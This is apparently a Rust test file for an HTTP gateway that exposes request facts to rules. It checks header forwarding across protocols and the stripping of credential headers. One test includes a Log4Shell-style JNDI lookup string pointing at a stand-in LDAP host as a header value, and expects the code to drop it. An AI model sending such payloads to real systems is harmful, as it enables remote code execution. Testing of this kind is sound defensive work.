use super::*;
use model::http::BodyLength;
use model::{Head, Headers, Method};

fn asked(protocol: Protocol, headers: &[(&str, &str)]) -> CanonicalRequest {
    let mut sent = Headers::new();
    for (name, value) in headers {
        sent.push(name, value);
    }
    let head = Head {
        protocol,
        method: Method::Post,
        target: "/v1/notes?tag=a%20b".into(),
        authority: "api.example".into(),
        headers: sent,
        body: BodyLength::None,
    };
    CanonicalRequest::of(head).unwrap()
}

fn valid(body: &[u8]) -> ValidRequest {
    ValidRequest {
        payload: model::Payload::None,
        body_bytes: body.to_vec(),
        content_type: None,
        parameters: Vec::new(),
        query: "tag=a%20b".into(),
        is_unproven: false,
        noted: Vec::new(),
    }
}

fn operation() -> Operation {
    Operation {
        id: "createNote".into(),
        method: Method::Post,
        template: "/notes".into(),
        segments: Vec::new(),
        parameters: Vec::new(),
        body: None,
        request_shape: model::Shape::default(),
        responses: Vec::new(),
        success_shape: model::Shape::default(),
        media: contract::ResponseMedia::default(),
        is_deprecated: false,
        summary: None,
        security: Vec::new(),
        bounds: model::json::Bounds::default(),
    }
}

fn names(facts: &Facts<'_>) -> Vec<String> {
    let text = |(name, value): &(&str, Cow<'_, [u8]>)| {
        format!("{name}: {}", String::from_utf8_lossy(value))
    };
    facts.headers.iter().map(text).collect()
}

#[test]
fn rules_are_told_the_request_as_it_came() {
    let asked = asked(Protocol::Http11, &[("user-agent", "curl/8")]);
    let valid = valid(b"{}");
    let facts = Facts::all(&asked, &valid, &operation(), "192.0.2.7".parse().unwrap());
    assert_eq!(facts.protocol, "HTTP/1.1");
    assert_eq!(facts.method, "POST");
    assert_eq!((facts.path, facts.query), ("/v1/notes", "tag=a%20b"));
    assert_eq!(facts.client, "192.0.2.7");
    assert_eq!(
        names(&facts),
        [
            "host: api.example",
            "user-agent: curl/8",
            "content-length: 2"
        ]
    );
}

#[test]
fn a_length_that_http_2_has_in_its_frames_is_not_made_up() {
    let asked = asked(Protocol::Http2, &[("user-agent", "curl/8")]);
    let valid = valid(b"{}");
    let facts = Facts::all(&asked, &valid, &operation(), "192.0.2.7".parse().unwrap());
    assert_eq!(facts.protocol, "HTTP/2.0");
    assert_eq!(names(&facts), ["host: api.example", "user-agent: curl/8"]);
}

#[test]
fn a_credential_is_never_shown_to_rules() {
    let sent = [
        ("authorization", "Bearer abc"),
        ("x-api-key", "abc"),
        ("cookie", "session=abc"),
        ("accept", "*/*"),
    ];
    let asked = asked(Protocol::Http2, &sent);
    let valid = valid(b"");
    let facts = Facts::all(&asked, &valid, &operation(), "192.0.2.7".parse().unwrap());
    assert_eq!(names(&facts), ["host: api.example", "accept: */*"]);
}

#[test]
fn fields_that_travel_undeclared_are_shown_and_what_no_standard_knows_is_not_written() {
    let sent = [
        ("user-agent", "curl/8"),
        ("accept", "text/html"),
        ("accept", "${jndi:ldap://a.example/x}"),
        (
            "traceparent",
            "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
        ),
        ("accept-language", "de, en;q=0.5"),
        ("if-match", "\"opened\""),
        ("prefer", "return=minimal"),
        ("prefer", "respond-async"),
        ("x-own", "stays here"),
    ];
    let asked = asked(Protocol::Http2, &sent);
    let valid = valid(b"");
    let facts = Facts::few(&asked, &valid, &operation());
    let shown: Vec<(&str, &[u8], bool)> = facts
        .forwarded
        .iter()
        .map(|(_, field, value)| (field.name, value, field.is_inspected()))
        .collect();
    let expected: [(&str, &[u8], bool); 5] = [
        ("accept-language", b"de, en;q=0.5", true),
        ("if-match", b"\"opened\"", false),
        ("prefer", b"return=minimal, respond-async", true),
        (
            "traceparent",
            b"00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
            true,
        ),
        ("user-agent", b"curl/8", true),
    ];
    assert_eq!(shown, expected);
}
